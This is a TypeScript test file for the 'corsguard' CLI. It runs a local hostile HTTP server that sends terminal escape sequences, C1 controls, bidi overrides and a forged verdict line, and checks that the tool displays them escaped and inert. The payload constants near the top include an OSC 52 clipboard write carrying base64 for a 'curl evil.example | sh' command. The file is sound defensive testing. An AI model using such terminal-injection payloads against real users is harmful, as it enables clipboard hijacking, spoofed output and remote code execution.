/**
 * A hostile server against the built `corsguard` executable: its reason phrase, header values
 * and body carry terminal control sequences (OSC 0 title, OSC 52 clipboard, CSI cursor moves,
 * SGR 8 hidden text), C1 controls (as raw bytes and as UTF-8), bidi overrides and a forged
 * verdict line. None of it may reach the terminal as itself; `--json` keeps every value raw.
 *
 * The server writes its bytes on a plain socket. Node's HTTP parser (used by the CLI today)
 * accepts ESC and C1 bytes in the reason phrase, C1 and other bytes above 0x7f in header values,
 * and anything in the body; it refuses ESC and other C0 bytes in header values, so those are
 * covered by the sanitizer's unit tests (src/cli/terminal-text.test.ts).
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type Socket } from 'node:net';
import { APP, corsguard, type CliRun } from './support.js';

const OSC_TITLE = '\u001b]0;pwned\u0007';
const OSC_CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
const CURSOR_UP_ERASE = '\u001b[3A\u001b[2K';
const HIDDEN = '\u001b[8m';
const FORGED = 'Verdict: ALLOWED: a browser lets https://app.example.com read the response';

/** Latin-1 text as bytes: every code unit one byte, so '\u009b' is the raw byte 0x9B. */
const bytes = (text: string): Buffer => Buffer.from(text, 'latin1');
/** Text as UTF-8 bytes: '\u009b' becomes C2 9B, '\u202e' becomes E2 80 AE. */
const utf8 = (text: string): Buffer => Buffer.from(text, 'utf8');

/** The reason phrase: escape sequences, a raw C1 CSI and a UTF-8 one, a UTF-8 bidi override. */
const REASON = Buffer.concat([
  bytes(`Forbidden${OSC_TITLE}${OSC_CLIPBOARD}${CURSOR_UP_ERASE}${HIDDEN}\u009b2J`),
  utf8('\u009b1A\u202e'),
  bytes(FORGED),
]);

/** A header value: what Node's parser lets through today (bytes 0x80-0xFF). */
const HEADER_VALUE = Buffer.concat([bytes('https://app.example.com\u009b2J\u009d0;t\u009c\u0085'), utf8('\u202e\u2066\u009b')]);

/** The body's first line, which check prints for a plain-text error. */
const BODY = utf8(
  `denied${OSC_TITLE}${OSC_CLIPBOARD}${CURSOR_UP_ERASE}\r${FORGED}${HIDDEN}\u009b2K\u0085\u2028\u202e\u2067x\u2069\u200f\nVerdict: ALLOWED\n`,
);

/** A server answering every request, on a raw socket, with `head` lines and `body`. */
async function hostileServer(reply: (requestHead: string) => { status: Buffer; headers: Buffer[]; body: Buffer }): Promise<{
  url: string;
  close(): Promise<void>;
}> {
  const sockets = new Set<Socket>();
  const server = createServer((socket) => {
    sockets.add(socket);
    socket.on('close', () => sockets.delete(socket));
    socket.on('error', () => {});
    let head = '';
    socket.on('data', (chunk: Buffer) => {
      head += chunk.toString('latin1');
      if (!head.includes('\r\n\r\n')) return;
      const { status, headers, body } = reply(head);
      const lines = headers.flatMap((h) => [h, bytes('\r\n')]);
      socket.end(
        Buffer.concat([
          bytes('HTTP/1.1 '),
          status,
          bytes('\r\n'),
          ...lines,
          bytes(`Content-Length: ${body.length}\r\nConnection: close\r\n\r\n`),
          body,
        ]),
      );
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = (server.address() as { port: number }).port;
  return {
    url: `http://127.0.0.1:${port}`,
    close: () =>
      new Promise<void>((resolve) => {
        for (const s of sockets) s.destroy();
        server.close(() => resolve());
      }),
  };
}

/** Characters a terminal must not get from a server: C0 (LF aside), DEL, C1, bidi controls. */
const UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/u;
/** corsguard's own colours (src/cli/style.ts), the only escapes it writes. */
const OWN_STYLE = /\u001b\[(?:1|2|22|31|32|33|36|39)m/g;

/** No control, C1 or bidi character on stdout or stderr, but corsguard's own colours. */
function assertInert(run: CliRun): void {
  for (const [name, text] of [
    ['stdout', run.stdout],
    ['stderr', run.stderr],
  ] as const) {
    const rest = text.replace(OWN_STYLE, '');
    const found = UNSAFE.exec(rest);
    assert.equal(
      found,
      null,
      `${name} carries U+${found?.[0].charCodeAt(0).toString(16)} near ${JSON.stringify(rest.slice(Math.max(0, (found?.index ?? 0) - 40), (found?.index ?? 0) + 40))}`,
    );
  }
}

/** The one verdict line is corsguard's BLOCKED: a server cannot add one. */
function assertOwnVerdictOnly(run: CliRun): void {
  const plain = run.stdout.replace(OWN_STYLE, '');
  const verdicts = plain.split('\n').filter((line) => /^\s*Verdict:/.test(line));
  assert.deepEqual(
    verdicts.map((line) => line.slice(0, 'Verdict: BLOCKED'.length)),
    ['Verdict: BLOCKED'],
    'only corsguard writes a verdict line',
  );
}

const checkServer = (): ReturnType<typeof hostileServer> =>
  hostileServer(() => ({
    status: Buffer.concat([bytes('403 '), REASON]),
    headers: [
      Buffer.concat([bytes('Access-Control-Allow-Origin: '), HEADER_VALUE]),
      Buffer.concat([bytes('Vary: '), HEADER_VALUE]),
      bytes('Content-Type: text/plain; charset=utf-8'),
    ],
    body: BODY,
  }));

for (const coloured of [false, true]) {
  test(`check${coloured ? ' (colours forced)' : ''}: a hostile reason phrase, header values and body reach the terminal inert`, async () => {
    const server = await checkServer();
    try {
      const run = await corsguard(['check', `${server.url}/api`, '--origin', APP], coloured ? { FORCE_COLOR: '1' } : {});
      assert.equal(run.code, 1, run.stdout + run.stderr);
      assertInert(run);
      assertOwnVerdictOnly(run);
      const out = run.stdout.replace(OWN_STYLE, '');
      // Shown visibly, not dropped: the reader sees that the server sent control characters.
      assert.match(out, /< 403 Forbidden\\x1b\]0;pwned\\x07\\x1b\]52;c;/);
      assert.ok(out.includes('\\x9b2J'), 'the raw C1 byte is shown as \\x9b');
      assert.ok(out.includes('\\u202e'), 'the bidi override is shown as \\u202e');
      assert.ok(out.includes(`body: denied\\x1b]0;pwned\\x07`), 'the body line is shown');
      assert.ok(out.includes(`\\x0d${FORGED}`), 'the forged verdict stays on the body line');
      if (coloured) assert.ok(run.stdout.includes('\u001b[31m'), 'corsguard still colours its own text');
      // The problem message quoting the header value is sanitized too.
      assert.match(out, /Access-Control-Allow-Origin is 'https:\/\/app\.example\.com\\x9b2J\\x9d0;t\\x9c\\x85/);
    } finally {
      await server.close();
    }
  });
}

test('check: ESC sequences in header values never reach the terminal, whether the HTTP client refuses the response or shows it', async () => {
  // Node's parser refuses ESC in a header value (exit 2, a plain sentence); a client that reads
  // what browsers read shows the value, escaped. Either way the terminal gets no ESC.
  const value = bytes(`https://app.example.com${OSC_TITLE}${OSC_CLIPBOARD}${CURSOR_UP_ERASE}${HIDDEN}\u0085`);
  const server = await hostileServer(() => ({
    status: bytes('200 OK'),
    headers: [Buffer.concat([bytes('Access-Control-Allow-Origin: '), value]), bytes('Content-Type: text/plain')],
    body: bytes('{}'),
  }));
  try {
    const run = await corsguard(['check', `${server.url}/api`, '--origin', APP]);
    assertInert(run);
    if (run.code !== 2) assertOwnVerdictOnly(run);
    if (run.code !== 2) assert.ok(run.stdout.includes('https://app.example.com\\x1b]0;pwned\\x07'), run.stdout);
  } finally {
    await server.close();
  }
});

test('check --json: the values stay raw (JSON escapes C0; corsguard escapes DEL, C1 and bidi), and the text is inert', async () => {
  const server = await checkServer();
  try {
    const run = await corsguard(['check', `${server.url}/api`, '--origin', APP, '--json']);
    assert.equal(run.code, 1);
    assert.equal(UNSAFE.exec(run.stdout), null, 'no raw control, C1 or bidi character in the JSON text');
    const report = JSON.parse(run.stdout) as {
      exchanges: { response: { headers: [string, string][] } }[];
      problems: { message: string }[];
    };
    const acao = report.exchanges[0]!.response.headers.find(([name]) => name.toLowerCase() === 'access-control-allow-origin');
    assert.equal(acao?.[1], HEADER_VALUE.toString('latin1'), 'the header value exactly as received');
    assert.ok(
      report.problems.some((p) => p.message.includes(HEADER_VALUE.toString('latin1'))),
      'problem messages quote it raw',
    );
  } finally {
    await server.close();
  }
});

/**
 * For scan: GETs answer every Origin with the hostile value and no Vary (so the note on the
 * trusted origin and the missing-Vary proof quote it); preflights reflect any origin with
 * credentials under a hostile reason phrase.
 */
const scanServer = (): ReturnType<typeof hostileServer> =>
  hostileServer((head) => {
    const origin = /\r\norigin: ([^\r]*)/i.exec(head)?.[1];
    if (head.startsWith('OPTIONS ') && origin !== undefined) {
      return {
        status: Buffer.concat([bytes('204 '), REASON]),
        headers: [
          bytes(`Access-Control-Allow-Origin: ${origin}`),
          bytes('Access-Control-Allow-Credentials: true'),
          bytes('Access-Control-Allow-Methods: PUT, DELETE'),
          bytes('Access-Control-Allow-Headers: authorization, content-type'),
          bytes('Vary: Origin'),
        ],
        body: Buffer.alloc(0),
      };
    }
    return {
      status: Buffer.concat([bytes('200 '), REASON]),
      headers: origin === undefined ? [] : [Buffer.concat([bytes('Access-Control-Allow-Origin: '), HEADER_VALUE])],
      body: BODY,
    };
  });

test('scan: hostile header values in notes and proofs reach the terminal inert', async () => {
  const server = await scanServer();
  try {
    const run = await corsguard(['scan', `${server.url}/api`, '--origin', APP]);
    assert.equal(run.code, 1, run.stdout + run.stderr);
    for (const text of [run.stdout, run.stderr]) assert.equal(UNSAFE.exec(text), null, text);
    assert.match(
      run.stdout,
      /does not allow the trusted origin https:\/\/app\.example\.com \(Access-Control-Allow-Origin 'https:\/\/app\.example\.com\\x9b2J/,
    );
    assert.match(
      run.stdout,
      /vary-origin-missing: .*\n\s+proof: +Origin: https:\/\/app\.example\.com -> Access-Control-Allow-Origin: https:\/\/app\.example\.com\\x9b2J/,
    );
    assert.match(run.stdout, /HIGH\s+origin-reflected: .* in preflight answers \(OPTIONS\), with credentials, which grant/);
    const json = await corsguard(['scan', `${server.url}/api`, '--origin', APP, '--json']);
    assert.equal(UNSAFE.exec(json.stdout), null);
    const report = JSON.parse(json.stdout) as { probes: { allowOrigin?: string }[] };
    assert.equal(report.probes[0]!.allowOrigin, HEADER_VALUE.toString('latin1'), '--json keeps the raw value');
  } finally {
    await server.close();
  }
});
